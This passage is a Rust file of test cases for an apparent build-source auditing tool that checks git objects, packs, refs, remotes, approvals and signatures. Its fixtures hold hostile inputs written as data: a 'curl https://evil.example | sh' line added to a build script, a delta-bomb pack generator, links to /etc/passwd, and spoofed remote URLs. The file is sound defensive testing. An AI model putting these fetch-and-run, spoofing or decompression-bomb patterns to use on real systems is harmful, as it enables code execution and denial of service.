//! The source snapshot: objects, work tree, remotes, approvals, signatures, and Dockerfile.

use super::super::case::{Case, image_tag};
use super::super::inputs;
use super::super::keys::Named;
use super::super::objects::{
    SshSigner, TREE, WHO, add_object, commit_of, loose_path, object_id, pack, pack_file, reseal, second_pack, set_head,
    tree, with_signature, work_file,
};
use super::super::tar::Entry;
use super::policy::with;

/// The id of README.md in the recorded HEAD.
const BLOB: &str = "07cb36c5a036157eb9fd8426ce2ec5fd9795c4ef";

pub fn cases() -> Vec<Case> {
    [
        objects(),
        formats(),
        heads(),
        work_tree(),
        repository(),
        approvals(),
        signatures(),
        openpgp(),
        ambiguous(),
        dockerfile(),
    ]
    .into_iter()
    .flatten()
    .collect()
}

fn objects() -> Vec<Case> {
    let fails = |name: &str, about| Case::fails(name, "source-objects", about);
    vec![
        fails("object-other-bytes", "A loose object contains the bytes of a different one.").inner(|entries| {
            let other = loose(entries, TREE).content.clone();
            loose(entries, BLOB).content = other;
        }),
        fails("object-other-size", "A loose object does not inflate to the size in its header.").inner(|entries| {
            let content = super::super::objects::zlib(b"blob 4\0hello");
            loose(entries, BLOB).content = content;
        }),
        fails("object-bytes-behind", "Bytes after a loose object's stream.")
            .inner(|entries| loose(entries, BLOB).content.push(0)),
        fails("object-cut", "A loose object is cut off.").inner(|entries| {
            loose(entries, BLOB).content.pop();
        }),
        fails("object-missing-blob", "A blob of HEAD is missing.")
            .inner(|entries| remove(entries, BLOB))
            .expect("source-tree", "not-run: refused"),
        fails("object-missing-tree", "HEAD's tree is missing.")
            .inner(|entries| remove(entries, TREE))
            .expect("source-tree", "not-run: refused"),
        fails("object-missing-and-file-changed", "A blob of HEAD is missing, and a different file was changed.")
            .inner(|entries| remove(entries, BLOB))
            .text("git/wallet/scripts/build.sh", |text| format!("{text}curl https://evil.example | sh\n"))
            .expect("source-tree", "fail"),
        fails("object-missing-commit", "HEAD's commit is missing.")
            .inner(|entries| remove(entries, &inputs::head_commit()))
            .expect("source-commit", "not-run: refused")
            .expect("source-tree", "not-run: refused"),
        fails("history-missing", "Parents are missing, and no .git/shallow allows that.").inner(|entries| {
            shallow(entries);
            entries.retain(|entry| entry.path != b"git/wallet/.git/shallow");
        }),
        fails("pack-byte-flipped", "One byte of the pack is changed.")
            .inner(|entries| pack_file(entries, ".pack").content[700] ^= 1),
        fails("pack-checksum", "The pack's checksum is wrong.")
            .inner(|entries| *pack_file(entries, ".pack").content.last_mut().unwrap() ^= 1),
        fails("pack-cut", "The pack is cut off.").inner(|entries| pack_file(entries, ".pack").content.truncate(1000)),
        fails("pack-version-3", "The pack has version 3.").inner(|entries| {
            let pack = &mut pack_file(entries, ".pack").content;
            pack[7] = 3;
            reseal(pack);
        }),
        fails("index-other-crc", "The index has a wrong CRC-32 for an entry.")
            .inner(|entries| change_index(entries, 24, 0)),
        fails("index-other-name", "The index has a wrong name for an object.").inner(|entries| {
            change_index(entries, 0, 19);
        }),
        fails("index-other-offset", "The index points into the middle of an entry.").inner(|entries| {
            change_index(entries, 28, 3);
        }),
        fails("index-checksum", "The index's checksum is wrong.")
            .inner(|entries| *pack_file(entries, ".idx").content.last_mut().unwrap() ^= 1),
        fails("index-without-pack", "There is an index without its pack.").inner(|entries| {
            let index = pack_file(entries, ".idx").content.clone();
            entries.push(Entry::file("git/wallet/.git/objects/pack/pack-0.idx", index));
        }),
        Case::good("good-pack-without-index", "The pack has no index: its entries are found without one.")
            .inner(|entries| entries.retain(|entry| !entry.path.ends_with(b".idx")))
            .expect("source-objects", "pass"),
        fails("pack-thin", "A pack has a delta whose base is in no pack.").inner(|entries| {
            second_pack(entries, pack(&[(7, &[9; 20], &[1, 1, 0x90, 1])]));
        }),
        fails("pack-object-twice", "A pack contains an object twice.").inner(|entries| {
            second_pack(entries, pack(&[(3, &[], b"twice"), (3, &[], b"twice")]));
        }),
        fails("pack-delta-outside", "A delta copies from beyond the end of its base.").inner(|entries| {
            second_pack(entries, pack(&[(3, &[], b"base"), (6, &[16], &[4, 4, 0x91, 3, 4])]));
        }),
        fails("pack-delta-before-the-pack", "A delta's base is before the beginning of the pack.").inner(|entries| {
            second_pack(entries, pack(&[(6, &[0x7f], &[4, 4, 0x90, 4])]));
        }),
        fails("pack-delta-bomb", "A few bytes of deltas expand to a gigabyte.")
            .inner(|entries| second_pack(entries, delta_bomb()))
            .arguments(&["--key", "key.pem", "--limit", "git_inflated_bytes=64M"]),
        Case::good("good-unreachable-object", "The repository has an unreachable object.")
            .inner(|entries| drop(add_object(entries, "blob", b"nobody names this")))
            .expect("source-objects", "pass"),
        Case::good("good-malformed-elsewhere", "An unreachable object has the right hash but is malformed: a detail.")
            .inner(|entries| drop(add_object(entries, "tree", &tree(&[("100644", "..", BLOB)]))))
            .expect("source-objects", "pass"),
    ]
}

/// Ten objects of a hundred megabytes each, expanded from one object of 64 kilobytes.
fn delta_bomb() -> Vec<u8> {
    let base = vec![0; 0x1_0000];
    let size = |mut size: usize| {
        let mut bytes = Vec::new();
        while size > 0x7f {
            bytes.push((size & 0x7f) as u8 | 0x80);
            size >>= 7;
        }
        bytes.push(size as u8);
        bytes
    };
    let delta = [size(0x1_0000), size(1600 * 0x1_0000), vec![0x80; 1600]].concat();
    let mut entries: Vec<(u8, Vec<u8>, &[u8])> = vec![(3, Vec::new(), &base)];
    // Each entry has two bytes of header, three bytes of distance, and the stream with eleven bytes around the delta.
    let mut distance = 3 + base.len() + 16;
    for _ in 0..10 {
        let mut digits = vec![(distance & 0x7f) as u8];
        let mut rest = distance >> 7;
        while rest > 0 {
            rest -= 1;
            digits.insert(0, 0x80 | (rest & 0x7f) as u8);
            rest >>= 7;
        }
        let header = 2;
        distance += header + digits.len() + delta.len() + 11;
        entries.push((6, digits, &delta));
    }
    let entries: Vec<(u8, &[u8], &[u8])> =
        entries.iter().map(|(kind, base, content)| (*kind, base.as_slice(), *content)).collect();
    pack(&entries)
}

fn loose<'e>(entries: &'e mut [Entry], id: &str) -> &'e mut Entry {
    let path = loose_path(id);
    entries.iter_mut().find(|entry| entry.path == path.as_bytes()).unwrap()
}

pub(super) fn remove(entries: &mut Vec<Entry>, id: &str) {
    let path = loose_path(id);
    entries.retain(|entry| entry.path != path.as_bytes());
}

fn shallow(entries: &mut Vec<Entry>) {
    entries.retain(|entry| !entry.path.starts_with(b"git/wallet"));
    entries.extend(inputs::repository(inputs::SHALLOW));
}

/// Changes the byte `at` of the first object's id (`columns` is 0), CRC (24) or offset (28).
fn change_index(entries: &mut [Entry], columns: usize, at: usize) {
    let index = &mut pack_file(entries, ".idx").content;
    let count = usize::from(index[8 + 255 * 4 + 3]);
    let start = match columns {
        0 => 0,
        24 => 20 * count,
        _ => 24 * count,
    };
    index[8 + 1024 + start + at] ^= 1;
    reseal(index);
}

/// Repositories that would make git use objects other than those that are hashed.
fn formats() -> Vec<Case> {
    let with_file = |name: &str, about, path: &'static str, content: &'static str| {
        Case::fails(name, "source-objects", about).inner(move |entries| {
            entries.retain(|entry| entry.path != format!("git/wallet/.git/{path}").into_bytes());
            entries.push(Entry::file(format!("git/wallet/.git/{path}"), content));
        })
    };
    let replace = format!("git/wallet/.git/refs/replace/{}", inputs::head_commit());
    vec![
        with_file("git-alternates", "Objects may come from outside the archive.", "objects/info/alternates", "/srv/git/objects\n"),
        with_file("git-grafts", "Grafts give a commit different parents.", "info/grafts", "b0398d3eeb1921c4b063ea213713c42e0c584a70\n"),
        with_file("git-commondir", "A commondir file points to a different git directory.", "commondir", "../../other\n"),
        with_file("git-sha256", "The repository uses SHA-256 objects.", "config", "[core]\n\trepositoryformatversion = 1\n[extensions]\n\tobjectFormat = sha256\n"),
        with_file("git-unknown-extension", "The config names an unknown extension.", "config", "[extensions]\n\tnewThing = true\n"),
        with_file("git-format-in-subsection", "A subsection of the config names an unsupported format.", "config", "[core \"x\"]\n\trepositoryformatversion = 2\n"),
        with_file("git-work-tree-elsewhere", "The config moves the work tree elsewhere.", "config", "[core]\n\tworktree = /etc\n"),
        with_file("git-work-tree-elsewhere-too", "config.worktree moves the work tree elsewhere.", "config.worktree", "[core]\n\tworktree = /etc\n"),
        with_file("git-config-malformed", "The config cannot be read.", "config", "[core\n"),
        with_file("git-shallow-malformed", ".git/shallow contains no commit ids.", "shallow", "everything\n"),
        with_file("git-ref-malformed", "A branch file contains no commit id.", "refs/heads/bad", "HEAD\n"),
        with_file("git-packed-ref-twice", "packed-refs names a branch twice, with different ids.", "packed-refs", "b0398d3eeb1921c4b063ea213713c42e0c584a70 refs/heads/old\nae216163cffcebdd31cde54d045da5617d67a40a refs/heads/old\n"),
        with_file("git-config-nul", "The config contains a NUL.", "config", "[core]\n\tbare = false\0\n"),
        with_file("git-config-section-without-blank", "A section of the config has no blank before its quoted name.", "config", "[remote\"origin\"]\n\turl = git@github.com:acme/wallet.git\n"),
        with_file("git-packed-ref-repeated", "packed-refs names a branch twice, with one id.", "packed-refs", "b0398d3eeb1921c4b063ea213713c42e0c584a70 refs/heads/old\nb0398d3eeb1921c4b063ea213713c42e0c584a70 refs/heads/old\n"),
        with_file("git-packed-refs-unsorted", "packed-refs promises sorted names, and a name is out of order.", "packed-refs", "# pack-refs with: peeled fully-peeled sorted \nb0398d3eeb1921c4b063ea213713c42e0c584a70 refs/heads/old\nb0398d3eeb1921c4b063ea213713c42e0c584a70 refs/heads/new\n"),
        with_file("git-packed-refs-comment", "packed-refs has a comment after its first line.", "packed-refs", "b0398d3eeb1921c4b063ea213713c42e0c584a70 refs/heads/old\n# a comment\n"),
        with_file("git-packed-refs-peeled", "packed-refs has a peeled id without a ref before it.", "packed-refs", "^b0398d3eeb1921c4b063ea213713c42e0c584a70\nb0398d3eeb1921c4b063ea213713c42e0c584a70 refs/heads/old\n"),
        with_file("git-ref-to-nothing", "A branch points to a missing object.", "refs/heads/bad", "1111111111111111111111111111111111111111\n"),
        Case::fails("git-replace-ref", "source-objects", "A replace ref substitutes a different commit for HEAD's.")
            .inner(move |entries| entries.push(Entry::file(replace, "ae216163cffcebdd31cde54d045da5617d67a40a\n"))),
        Case::fails("git-link-below", "source-objects", "A link below .git points outside the archive.")
            .inner(|entries| entries.push(Entry::link(b'2', "git/wallet/.git/objects/aa", "/srv/git/objects"))),
        Case::fails("git-is-a-file", "source-objects", ".git at the root of the repository is a file that points elsewhere.").inner(|entries| {
            entries.retain(|entry| !entry.path.starts_with(b"git/wallet/.git"));
            entries.push(Entry::file("git/wallet/.git", "gitdir: /srv/git/wallet.git\n"));
        }),
        Case::good("good-hooks-and-filters", "The config has hooks, filters, a file-system monitor and includes: none is run or followed.")
            .inner(|entries| {
                entries.push(Entry { mode: 0o755, ..Entry::file("git/wallet/.git/hooks/post-checkout", "#!/bin/sh\ntouch /tmp/hook\n") });
            })
            .text("git/wallet/.git/config", |text| {
                format!("{text}[core]\n\tfsmonitor = touch /tmp/monitor\n\thooksPath = /tmp\n[filter \"x\"]\n\tsmudge = touch /tmp/filter\n[include]\n\tpath = /etc/passwd\n")
            })
            .expect("source-objects", "pass")
            .expect("source-tree", "pass"),
        Case::good("good-shallow-named", "A shallow clone: the boundary is named.")
            .inner(shallow)
            .expect("source-objects", "pass")
            .expect("source-tree", "pass"),
    ]
}

/// HEAD's commit or its tree is malformed.
fn heads() -> Vec<Case> {
    let commit = |name: &str, about, text: &dyn Fn(&str) -> String| {
        let content = text(&commit_of(TREE));
        Case::fails(name, "source-objects", about).inner(move |entries| {
            let id = add_object(entries, "commit", content.as_bytes());
            set_head(entries, &id);
        })
    };
    let with_tree = |name: &str, about, content: Vec<u8>| {
        Case::fails(name, "source-objects", about).inner(move |entries| {
            let tree = add_object(entries, "tree", &content);
            let id = add_object(entries, "commit", commit_of(&tree).as_bytes());
            set_head(entries, &id);
        })
    };
    vec![
        commit("commit-two-trees", "HEAD's commit has two tree headers.", &|text| format!("tree {TREE}\n{text}")),
        commit("commit-late-tree", "HEAD's commit has a second tree header after the other headers.", &|text| {
            text.replacen("\n\n", &format!("\ntree {TREE}\n\n"), 1)
        }),
        commit("commit-headers-out-of-order", "HEAD's commit names its committer first.", &|_| {
            format!("tree {TREE}\ncommitter {WHO}\nauthor {WHO}\n\nx\n")
        }),
        commit("commit-nul-in-header", "HEAD's commit has a NUL byte in a header.", &|text| {
            text.replacen("Ada", "A\0a", 1)
        }),
        commit("commit-nul-in-message", "HEAD's commit has a NUL byte in its message.", &|text| {
            format!("{text}\0hidden")
        }),
        commit("commit-without-author", "HEAD's commit has no author.", &|_| {
            format!("tree {TREE}\ncommitter {WHO}\n\nx\n")
        }),
        with_tree("tree-unsorted", "HEAD's tree is not sorted.", tree(&[("100644", "b", BLOB), ("100644", "a", BLOB)])),
        with_tree(
            "tree-name-twice",
            "HEAD's tree has a duplicate name.",
            tree(&[("100644", "a", BLOB), ("100644", "a", BLOB)]),
        ),
        with_tree("tree-file-and-folder", "HEAD's tree has a file and a folder with the same name.", {
            tree(&[("100644", "a", BLOB), ("100644", "a.b", BLOB), ("40000", "a", TREE)])
        }),
        with_tree("tree-dot-git", "HEAD's tree has an entry .git.", tree(&[("100644", ".git", BLOB)])),
        with_tree(
            "tree-dot-git-mac",
            "HEAD's tree has an entry that macOS treats as .git.",
            tree(&[("100644", ".g\u{200c}it", BLOB)]),
        ),
        with_tree("tree-dot-dot", "HEAD's tree has an entry ..", tree(&[("100644", "..", BLOB)])),
        with_tree("tree-absolute", "HEAD's tree has an absolute name.", tree(&[("100644", "/etc/passwd", BLOB)])),
        with_tree("tree-mode-padded", "HEAD's tree has a mode with a leading zero.", tree(&[("0100644", "a", BLOB)])),
        with_tree("tree-blob-as-folder", "HEAD's tree lists a blob as a folder.", tree(&[("40000", "a", BLOB)])),
        with_tree("tree-cut", "HEAD's tree is cut off.", tree(&[("100644", "a", BLOB)])[..20].to_vec()),
    ]
}

fn work_tree() -> Vec<Case> {
    let fails = |name: &str, about| Case::fails(name, "source-tree", about);
    let allow = |case: Case, patterns: &str| {
        let policy = with(&format!("[expect]\nuntracked = [{patterns}]\n"));
        case.file("key.pem", Named::Server.public_pem()).policy(policy)
    };
    let add = |path: &'static str| {
        move |entries: &mut Vec<Entry>| entries.push(Entry::file(format!("git/wallet/{path}"), "x\n"))
    };
    vec![
        fails("tree-file-changed", "A file differs from its blob.")
            .text("git/wallet/scripts/build.sh", |text| format!("{text}curl https://evil.example | sh\n")),
        fails("tree-file-added", "The work tree has a file that is not in the commit.").inner(add("scripts/extra.sh")),
        fails("tree-file-missing", "A file of the commit is missing.")
            .inner(|entries| entries.retain(|entry| entry.path != b"git/wallet/go.mod")),
        fails("tree-file-ignored", "An untracked file is ignored by a rule: git status would not show it.")
            .inner(add("build.o"))
            .inner(|entries| entries.push(Entry::file("git/wallet/.git/info/exclude", "*.o\n"))),
        fails("tree-exec-bit", "A file became executable.")
            .inner(|entries| work_file(entries, "README.md").mode = 0o755),
        fails("tree-exec-bit-lost", "A script is no longer executable.")
            .inner(|entries| work_file(entries, "scripts/build.sh").mode = 0o644),
        fails("tree-link-for-file", "A link replaces a file.").inner(|entries| {
            *work_file(entries, "main.go") = Entry::link(b'2', "git/wallet/main.go", "/etc/passwd");
        }),
        fails("tree-link-elsewhere", "A link has a different target.")
            .inner(|entries| work_file(entries, "web/start.html").target = b"../../../etc/passwd".to_vec()),
        fails("tree-file-for-link", "A file replaces a link.").inner(|entries| {
            *work_file(entries, "web/start.html") = Entry::file("git/wallet/web/start.html", "index.html");
        }),
        fails("tree-line-ends", "A file has CR LF line endings, which no attribute in HEAD requests.")
            .text("git/wallet/main.go", |text| text.replace('\n', "\r\n"))
            .inner(|entries| entries.push(Entry::file("git/wallet/.git/info/attributes", "*.go text eol=crlf\n"))),
        fails("tree-case-twin", "Two file names differ only by case.").inner(add("readme.MD")),
        fails("tree-submodule-elsewhere", "A submodule's .git file points outside the archive.").inner(|entries| {
            let root = with_submodule(entries);
            set_head(entries, &root);
            entries.push(Entry::file("git/wallet/lib/.git", "gitdir: ../../../../srv/git/lib.git\n"));
        }),
        Case::fails("tree-submodule-without-objects", "source-tree", "A submodule has files but no objects.").inner(
            |entries| {
                let root = with_submodule(entries);
                set_head(entries, &root);
                entries.push(Entry::file("git/wallet/lib/code.c", "int main;\n"));
            },
        ),
        Case::good("good-hard-link", "A ref is a hard link to an earlier ref with the same content.").inner(
            |entries| {
                // The ref for HEAD's commit is replaced with the hard link.
                let path = b"git/wallet/.git/refs/heads/main";
                entries.retain(|entry| entry.path != path);
                let (path, target) = (std::str::from_utf8(path).unwrap(), "git/wallet/.git/refs/remotes/origin/main");
                entries.push(Entry::link(b'1', path, target));
            },
        ),
        fails("tree-set-user-id", "A file has the set-user-id bit, which an image built from it would keep.")
            .inner(|entries| work_file(entries, "scripts/build.sh").mode |= 0o4000),
        fails("tree-hard-link", "A file is a hard link to another file of the work tree.").inner(|entries| {
            entries.retain(|entry| entry.path != b"git/wallet/main.go");
            entries.push(Entry::link(b'1', "git/wallet/main.go", "git/wallet/go.mod"));
        }),
        Case::fails(
            "tree-hard-link-elsewhere",
            "source-objects",
            "A file of the work tree is a hard link to the record.",
        )
        .inner(|entries| entries.push(Entry::link(b'1', "git/wallet/record", "data/build.json"))),
        Case::good("good-empty-folder", "An empty folder, which git does not record.")
            .inner(|entries| entries.push(Entry::directory("git/wallet/out")))
            .expect("source-tree", "pass"),
        allow(
            Case::good("good-untracked-allowed", "The policy allows files that the build left behind."),
            "\"/out/\", \"*.log\"",
        )
        .inner(add("out/app.bin"))
        .inner(add("scripts/build.log"))
        .expect("source-tree", "pass"),
        allow(
            Case::fails(
                "untracked-elsewhere",
                "source-tree",
                "The policy allows a folder, but the file is in a different folder with that name.",
            ),
            "\"/out/\"",
        )
        .inner(add("web/out/app.bin")),
        allow(
            Case::fails(
                "untracked-changed-file",
                "source-tree",
                "The policy allows every untracked file, but a file of the commit is changed.",
            ),
            "\"*\"",
        )
        .text("git/wallet/main.go", |text| text.replace("8443", "8444")),
    ]
}

/// Objects of a commit whose tree has a submodule `lib`; returns the commit.
fn with_submodule(entries: &mut Vec<Entry>) -> String {
    let root = add_object(entries, "tree", &tree(&[("160000", "lib", "3333333333333333333333333333333333333333")]));
    add_object(entries, "commit", commit_of(&root).as_bytes())
}

fn repository() -> Vec<Case> {
    let policy = |case: Case, repositories: &str| {
        let policy = with(&format!("[expect]\nrepositories = [{repositories}]\n"));
        case.file("key.pem", Named::Server.public_pem()).policy(policy)
    };
    let remote = |case: Case, url: &'static str| {
        case.text("git/wallet/.git/config", move |text| text.replace("git@github.com:acme/wallet.git", url))
    };
    let good = |name: &str, about| Case::good(name, about).expect("source-repository", "pass");
    vec![
        policy(
            good("good-repository", "The remote is one of the policy's, spelled differently."),
            "\"https://github.com/acme/other\", \"https://github.com/acme/wallet\"",
        ),
        remote(
            policy(
                good("good-repository-with-token", "The remote's address contains a token, which is never shown."),
                "\"git@github.com:acme/wallet.git\"",
            ),
            "https://x-access-token:ghs_verySecret123@github.com/acme/wallet",
        )
        .absent("ghs_verySecret123"),
        policy(
            Case::fails("repository-other", "source-repository", "The remote is not one of the policy's."),
            "\"git@github.com:acme/other.git\"",
        ),
        remote(
            policy(
                Case::fails(
                    "repository-other-host",
                    "source-repository",
                    "The policy's host is only a prefix of the remote's.",
                ),
                "\"git@github.com:acme/wallet.git\"",
            ),
            "https://github.com.evil.example/acme/wallet.git",
        ),
        remote(
            policy(
                Case::fails(
                    "repository-user-like-host",
                    "source-repository",
                    "The policy's host appears as the user name of a different host.",
                ),
                "\"git@github.com:acme/wallet.git\"",
            ),
            "https://github.com@evil.example/acme/wallet.git",
        ),
        remote(
            policy(
                Case::fails(
                    "repository-host-before-fragment",
                    "source-repository",
                    "The policy's host comes after a `#`: programs use the host before it.",
                ),
                "\"git@github.com:acme/wallet.git\"",
            ),
            "\"https://evil.example#@github.com/acme/wallet.git\"",
        ),
        policy(
            Case::fails(
                "repository-rewritten",
                "source-repository",
                "The config rewrites the policy's address (insteadOf) to a different host.",
            ),
            "\"git@github.com:acme/wallet.git\"",
        )
        .text("git/wallet/.git/config", |text| {
            format!("{text}[url \"https://evil.example/\"]\n\tinsteadOf = git@github.com:\n")
        }),
        policy(
            Case::rejected(
                "repository-config-includes",
                "The config includes a file, which could name a different remote.",
            ),
            "\"git@github.com:acme/wallet.git\"",
        )
        .text("git/wallet/.git/config", |text| format!("{text}[include]\n\tpath = /etc/other-config\n"))
        .expect("source-repository", "unknown"),
        policy(
            Case::rejected("repository-promisor", "A remote without a url, whose name git takes as an address."),
            "\"git@github.com:acme/wallet.git\"",
        )
        .text("git/wallet/.git/config", |text| {
            format!("{text}[remote \"https://evil.example/acme/wallet\"]\n\tpromisor = true\n")
        })
        .expect("source-repository", "unknown"),
        policy(
            Case::rejected("repository-branch-remote", "A branch's remote is an address, not the name of a remote."),
            "\"git@github.com:acme/wallet.git\"",
        )
        .text("git/wallet/.git/config", |text| {
            format!("{text}[branch \"other\"]\n\tremote = https://evil.example/acme/wallet\n")
        })
        .expect("source-repository", "unknown"),
        policy(
            Case::fails(
                "repository-worktree-config",
                "source-repository",
                "The config of the work tree rewrites the policy's address.",
            ),
            "\"git@github.com:acme/wallet.git\"",
        )
        .text("git/wallet/.git/config", |text| format!("{text}[extensions]\n\tworktreeConfig = true\n"))
        .inner(|entries| {
            let config = "[url \"https://evil.example/\"]\n\tinsteadOf = git@github.com:\n";
            entries.push(Entry::file("git/wallet/.git/config.worktree", config));
        }),
        remote(
            policy(
                Case::fails("repository-local", "source-repository", "The remote is a folder."),
                "\"git@github.com:acme/wallet.git\"",
            ),
            "/srv/git/wallet.git",
        ),
        policy(
            Case::fails("repository-none", "source-repository", "The config names no remote."),
            "\"git@github.com:acme/wallet.git\"",
        )
        .text("git/wallet/.git/config", |text| text.replace("url =", "pushurl =")),
        policy(
            Case::fails("repository-log-host", "source-repository", "The log names a different host."),
            "\"git@github.com:acme/wallet.git\"",
        )
        .log(|text| text.replace("github_host=github.com", "github_host=github.evil.example")),
        policy(
            Case::error("repository-in-policy-malformed", 2, "policy", "The policy's repository is not an address."),
            "\"wallet\"",
        ),
    ]
}

fn approvals() -> Vec<Case> {
    let head = inputs::head_commit();
    let list = |record: &str| format!("repository,commit,change,approver,time\n{}\n", record.replace("HEAD", &head));
    let good = "git@github.com:acme/wallet.git,HEAD,CHG-1,Grace Example <grace@example.com>,2026-02-27T09:00:00Z";
    let given = |case: Case, text: String| {
        case.file("approvals.csv", text).arguments(&["--key", "key.pem", "--approvals", "approvals.csv"])
    };
    let fails = |name: &str, about, from: &str, to: &str| {
        given(Case::fails(name, "source-approved", about), list(&good.replace(from, to)))
    };
    let odd = |name: &str, about, approver: &str| {
        given(Case::rejected(name, about), list(&good.replace("Grace Example <grace@example.com>", approver)))
            .expect("source-approved", "unknown")
    };
    let in_latin_1 = commit_of(TREE).replacen("\n\n", "\nencoding ISO-8859-1\n\n", 1);
    let signer = SshSigner::new(1);
    let signed_policy = with(&format!("[[signers]]\nname = \"Change board\"\nssh = \"{}\"\n", signer.public_line()));
    let signed = |case: Case, text: String, signature: String| {
        case.file("approvals.csv", text)
            .file("approvals.csv.sig", signature)
            .file("key.pem", Named::Server.public_pem())
            .file("policy.toml", signed_policy.clone())
            .arguments(&["--policy", "policy.toml", "--approvals", "approvals.csv"])
    };
    vec![
        given(Case::good("good-approved", "Someone other than the author approved the commit before the build."), list(good))
            .expect("source-approved", "pass"),
        Case::good("good-approved-json", "The list of approvals is JSON.")
            .file("approvals.json", format!(
                "[{{\"repository\": \"https://github.com/acme/wallet\", \"commit\": \"{head}\", \"change\": \"CHG-1\", \"approver\": \"grace@example.com\", \"time\": \"2026-02-27T09:00:00Z\"}}]\n"
            ))
            .arguments(&["--key", "key.pem", "--approvals", "approvals.json"])
            .expect("source-approved", "pass"),
        signed(Case::good("good-approved-signed", "The list is signed by one of the policy's signers."), list(good), signer.sign("hpsb-audit-approvals", list(good).as_bytes()))
            .expect("source-approved", "pass"),
        signed(Case::fails("approved-signature-other-list", "source-approved", "The signature next to the list is of a different list."), list(good), signer.sign("hpsb-audit-approvals", b"other")),
        signed(Case::fails("approved-signature-other-key", "source-approved", "The list is signed by none of the policy's signers."), list(good), SshSigner::new(2).sign("hpsb-audit-approvals", list(good).as_bytes())),
        signed(Case::fails("approved-signature-other-purpose", "source-approved", "The signature was made for a commit."), list(good), signer.sign("git", list(good).as_bytes())),
        fails("approved-other-commit", "The list names a different commit with the same beginning.", "HEAD", "b0398d3000000000000000000000000000000000"),
        fails("approved-other-repository", "The list names the commit in a different repository.", "acme/wallet", "fork/wallet"),
        fails("approved-by-author", "The approver is the author, by address.", "Grace Example <grace@example.com>", "BEN@example.com"),
        fails("approved-by-author-with-blanks", "The approver is the author, by name, with two blanks.", "Grace Example <grace@example.com>", "Ben  Example"),
        odd("approved-by-address-with-dot", "The approver is the author's address with a dot at its end.", "ben@example.com."),
        odd("approved-by-address-not-ascii", "The approver is the author's address with a wide letter.", "\u{ff42}en@example.com"),
        fails("approved-by-author-name", "The approver is the author, by name.", "Grace Example <grace@example.com>", "ben example"),
        given(
            built_from(
                Case::fails("approved-by-name-only", "source-approved", "The author's name is in an encoding that is not read, and the approver is a name without an address."),
                &in_latin_1,
            ),
            list(&good.replace("Grace Example <grace@example.com>", "Grace Example").replace("HEAD", &object_id("commit", in_latin_1.as_bytes()))),
        ),
        given(Case::good("good-approved-name-and-address", "The approver is a name with an address in parentheses."), list(&good.replace("<grace@example.com>", "(grace@example.com)")))
            .expect("source-approved", "pass"),
        odd("approved-by-two-addresses", "The approver has two addresses, of which one is the author's.", "Grace Example <grace@example.com> <ben@example.com>"),
        odd("approved-by-address-cut", "The approver is the author's address with an unclosed bracket.", "<ben@example.com"),
        odd("approved-by-address-with-comma", "The approver is the author's address followed by a comma.", "\"ben@example.com,\""),
        odd("approved-by-mailto", "The approver is the author's address as a link.", "X <mailto:ben@example.com>"),
        given(
            Case::rejected("approved-by-another-row-too", "One row is valid, but another row for the commit does not state who approved it."),
            list(&format!("{good}\n{}", good.replace("Grace Example <grace@example.com>", "<ben@example.com"))),
        )
        .expect("source-approved", "unknown"),
        fails("approved-after-build", "The approval is later than the build.", "2026-02-27", "2026-03-03"),
        given(Case::error("approvals-malformed", 3, "malformed", "The list has a short commit id."), list(&good.replace("HEAD", "b0398d3"))),
        Case::rejected("approved-not-given", "The policy requires an approval, and no list is given.")
            .file("key.pem", Named::Server.public_pem())
            .policy(with("[levels]\nsource-approved = \"require\"\n"))
            .expect("source-approved", "not-run: no-evidence"),
    ]
}

/// The build of a commit with a signature over its unsigned form.
fn signed_commit(case: Case, sign: impl Fn(&str) -> String) -> Case {
    let commit =
        format!("tree {TREE}\nparent {}\nauthor {WHO}\ncommitter {WHO}\n\nA signed change\n", inputs::head_commit());
    let signed = with_signature(&commit, &sign(&commit));
    built_from(case, &signed)
}

/// The build of this commit, with its id in the name.
pub(super) fn built_from(case: Case, commit: &str) -> Case {
    let id = object_id("commit", commit.as_bytes());
    let (old, new) = (image_tag(), format!("v1-{}", &id[..7]));
    let build_name = super::super::case::build_name(&new, inputs::STAMP);
    let (old_record, new_record) = (old.clone(), new.clone());
    case.inner(|entries| {
        add_object(entries, "commit", commit.as_bytes());
        set_head(entries, &id);
    })
    .log(move |text| text.replace(&old, &new))
    .record(move |text| text.replace(&old_record, &new_record))
    .build_name(build_name)
}

/// Two commits whose ids have the same first seven digits: a collision among about twenty thousand commits.
fn twins() -> (String, String) {
    let mut seen = std::collections::HashMap::new();
    for number in 0.. {
        let commit = format!("{}{number}\n", commit_of(TREE));
        let digits = object_id("commit", commit.as_bytes())[..7].to_owned();
        if let Some(twin) = seen.insert(digits, commit.clone()) {
            return (twin, commit);
        }
    }
    unreachable!("numbers do not end")
}

fn ambiguous() -> Vec<Case> {
    let (head, twin) = twins();
    let id = object_id("commit", head.as_bytes());
    let build =
        |case: Case| built_from(case, &head).inner(|entries| drop(add_object(entries, "commit", twin.as_bytes())));
    let policy = with(&format!("[expect]\ncommit = \"{id}\"\n"));
    vec![
        build(Case::rejected("commit-digits-ambiguous", "Two commits begin with the tag's seven digits."))
            .expect("source-commit", "unknown"),
        build(Case::good(
            "good-commit-digits-and-policy",
            "Two commits begin with the tag's seven digits, and the policy names all forty digits.",
        ))
        .file("key.pem", Named::Server.public_pem())
        .policy(policy)
        .expect("source-commit", "pass"),
    ]
}

fn signatures() -> Vec<Case> {
    let signer = SshSigner::new(1);
    let policy = |case: Case, key: &SshSigner| {
        let policy = with(&format!(
            "[[signers]]\nname = \"Ada\"\nssh = \"{}\"\n\n[levels]\nsource-signature = \"require\"\n",
            key.public_line()
        ));
        case.file("key.pem", Named::Server.public_pem()).policy(policy)
    };
    let fails = |name: &str, about| Case::fails(name, "source-signature", about);
    let sign = |commit: &str| signer.sign("git", commit.as_bytes());
    vec![
        signed_commit(
            policy(Case::good("good-signed-commit", "A signer of the policy signed HEAD's commit."), &signer),
            sign,
        )
        .expect("source-signature", "pass")
        .expect("source-commit", "pass"),
        signed_commit(policy(fails("signed-by-other", "Someone else signed HEAD's commit."), &SshSigner::new(2)), sign),
        signed_commit(
            policy(fails("signed-other-bytes", "The signature is of a different commit."), &signer),
            |commit| sign(&commit.replace("signed", "other")),
        ),
        policy(Case::rejected("signed-by-nobody", "The policy requires a signature, and there is none."), &signer)
            .expect("source-signature", "not-run: no-evidence"),
        Case::error("signer-malformed", 2, "policy", "A signer's key is cut off.")
            .file("key.pem", Named::Server.public_pem())
            .policy(with("[[signers]]\nname = \"Ada\"\nssh = \"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAINeH\"\n")),
    ]
}

/// A recorded OpenPGP file.
fn openpgp_file(name: &str) -> String {
